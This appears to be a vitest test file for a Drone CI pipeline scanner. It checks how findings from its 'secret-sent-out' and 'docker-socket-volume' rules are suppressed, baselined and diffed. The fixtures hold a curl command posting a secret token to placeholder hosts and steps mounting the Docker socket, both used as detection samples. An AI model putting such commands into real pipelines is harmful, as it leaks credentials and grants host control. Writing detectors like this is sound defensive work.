import { describe, expect, it } from 'vitest';
import { droneAudit, temporaryFolder } from './support/cli.ts';
import { commitFiles, git, hasGit, writeFiles } from './support/git.ts';

const head = 'kind: pipeline\ntype: docker\nname: web\ntrigger: {event: [push]}\nsteps:\n';
/** Sends a secret to each host; its commands start in line 12. */
const sending = (...hosts: readonly string[]): string =>
  `${head}- name: test\n  image: alpine@sha256:aa\n  environment:\n    TOKEN:\n      from_secret: token\n  commands:\n${hosts
    .map((host) => `  - curl -d "$TOKEN" http://${host}/\n`)
    .join('')}`;
const mounting = (...steps: readonly string[]): string =>
  `${head}${steps
    .map(
      (name) =>
        `- name: ${name}\n  image: alpine@sha256:aa\n  volumes:\n  - {name: socket, path: /var/run/docker.sock}\n`,
    )
    .join(
      '',
    )}volumes:\n# drone-audit: ignore[docker-socket-volume] builds the base image\n- name: socket\n  host: {path: /var/run/docker.sock}\n`;

interface Told {
  readonly rule: string;
  readonly line: number;
  readonly message: string;
  readonly baselineState?: string;
  readonly related: readonly { readonly line: number }[];
}

function scan(cwd: string, rule: string, ...args: readonly string[]) {
  const { stdout, status } = droneAudit(['scan', '--format', 'json', '--rule', rule, '--fail-on', 'low', ...args], {
    cwd,
  });
  const { findings, suppressed, problems } = JSON.parse(stdout) as {
    readonly findings: readonly Told[];
    readonly suppressed: readonly Told[];
    readonly problems: readonly { readonly message: string }[];
  };
  const places = (each: Told): string => [each.line, ...each.related.map(({ line }) => line)].join(' ');
  return {
    status,
    findings,
    open: findings.map(places),
    suppressed: suppressed.map(places),
    problems: problems.map(({ message }) => message),
  };
}

function folderWith(pipeline: string, config?: string): string {
  const folder = temporaryFolder();
  writeFiles(folder, { '.drone.yml': pipeline, ...(config === undefined ? {} : { 'drone-audit.yml': config }) });
  return folder;
}

const ignoring = (...commands: readonly number[]): string =>
  `ignore:\n${commands
    .map((number) => `- {rule: secret-sent-out, at: 'pipeline[web].steps[test].commands[${number}]', reason: ours}\n`)
    .join('')}`;

describe('the places of one finding', () => {
  const three = sending('one.example', 'two.example', 'three.example');

  it.each([
    ['none', '', ['12 13 14'], []],
    ['the first', ignoring(0), ['13 14'], ['12']],
    ['a further one', ignoring(1), ['12 14'], ['13']],
    ['two of them', ignoring(0, 2), ['13'], ['12', '14']],
    ['all', ignoring(0, 1, 2), [], ['12', '13', '14']],
    ['the file', 'ignore:\n- {rule: secret-sent-out, path: .drone.yml, reason: ours}\n', [], ['12 13 14']],
  ])('are suppressed one by one by a config: %s', (_, config, open, suppressed) => {
    const told = scan(folderWith(three, config), 'secret-sent-out');
    expect([told.open, told.suppressed]).toEqual([open, suppressed]);
    expect(told.problems).toEqual([]);
    expect(told.status).toBe(open.length > 0 ? 1 : 0);
  });

  it('are suppressed one by one by comments, and together by one on their step', () => {
    const comment = '# drone-audit: ignore[secret-sent-out] ours';
    const first = three.replace('one.example/\n', `one.example/ ${comment}\n`);
    expect(scan(folderWith(first), 'secret-sent-out')).toMatchObject({ open: ['13 14'], suppressed: ['12'] });
    const step = three.replace('- name: test', `${comment}\n- name: test`);
    expect(scan(folderWith(step), 'secret-sent-out')).toMatchObject({ open: [], suppressed: ['13 14 15'] });
  });

  it('say what is so of them once they stand alone', () => {
    const [alone] = scan(folderWith(three, ignoring(0, 1)), 'secret-sent-out').findings;
    expect(alone?.message).toContain('three.example');
    expect(alone?.message).not.toContain('one.example');
  });

  it('count for the gate in a format of one line each', () => {
    const folder = folderWith(three, ignoring(0));
    const { stdout } = droneAudit(['scan', '--format', 'unix', '--rule', 'secret-sent-out'], { cwd: folder });
    expect(stdout.split('\n').map((line) => line.split(':')[1])).toContain('13');
  });

  it('are accepted with a volume by those who accept it', () => {
    const told = scan(folderWith(mounting('a', 'b')), 'docker-socket-volume');
    expect([told.open, told.suppressed]).toEqual([[], ['17 9 13']]);
  });
});

describe('a new place of a finding that a baseline knows', () => {
  const written = (pipeline: string, config?: string): string => {
    const folder = folderWith(pipeline, config);
    scan(folder, 'secret-sent-out', '--write-baseline', 'baseline.yml');
    return folder;
  };
  const compared = (folder: string) => scan(folder, 'secret-sent-out', '--baseline', 'baseline.yml');

  it('is told where it is, and the known ones are not', () => {
    const folder = written(sending('one.example', 'two.example'));
    writeFiles(folder, { '.drone.yml': sending('new.example', 'one.example', 'two.example') });
    const { open, suppressed, findings } = compared(folder);
    expect([open, suppressed]).toEqual([['12'], ['13 14']]);
    expect(findings.map(({ baselineState }) => baselineState)).toEqual(['new']);
  });

  it('is told where another one was mended', () => {
    const folder = written(sending('one.example', 'two.example'));
    writeFiles(folder, { '.drone.yml': sending('two.example', 'new.example') });
    expect(compared(folder)).toMatchObject({ open: ['13'], suppressed: ['12'] });
  });

  it('is one that was suppressed when the baseline was written, and no longer is', () => {
    const folder = written(sending('one.example', 'two.example'), ignoring(0));
    expect(compared(folder)).toMatchObject({ open: [], suppressed: ['12', '13'] });
    writeFiles(folder, { 'drone-audit.yml': 'site: {}\n' });
    expect(compared(folder)).toMatchObject({ open: ['12'], suppressed: ['13'] });
  });

  it('does not come of a suppression of a known one', () => {
    const folder = written(sending('one.example', 'two.example'));
    writeFiles(folder, { 'drone-audit.yml': ignoring(1) });
    expect(compared(folder)).toMatchObject({ open: [], suppressed: ['12', '13'] });
  });
});

describe.skipIf(!hasGit)('with --diff, a further place', () => {
  const repository = (pipeline: string, changed: string): string => {
    const folder = temporaryFolder();
    git(folder, ['init', '-q']);
    commitFiles(folder, { '.drone.yml': pipeline });
    git(folder, ['checkout', '-q', '-b', 'change']);
    commitFiles(folder, { '.drone.yml': changed });
    return folder;
  };

  it('is told though a comment accepts the volume that a new step mounts', () => {
    const told = scan(repository(mounting('a'), mounting('a', 'b')), 'docker-socket-volume', '--diff', 'main');
    expect([told.open, told.suppressed]).toEqual([['13'], ['17 9']]);
    expect(told.problems).toEqual([
      'suppression of "docker-socket-volume" does not count for a finding that is new itself',
    ]);
  });

  it('is not told where nothing is new', () => {
    const same = mounting('a', 'b');
    const told = scan(repository(same, `# moved\n${same}`), 'docker-socket-volume', '--diff', 'main');
    expect([told.open, told.suppressed, told.problems]).toEqual([[], ['18 10 14'], []]);
  });
});
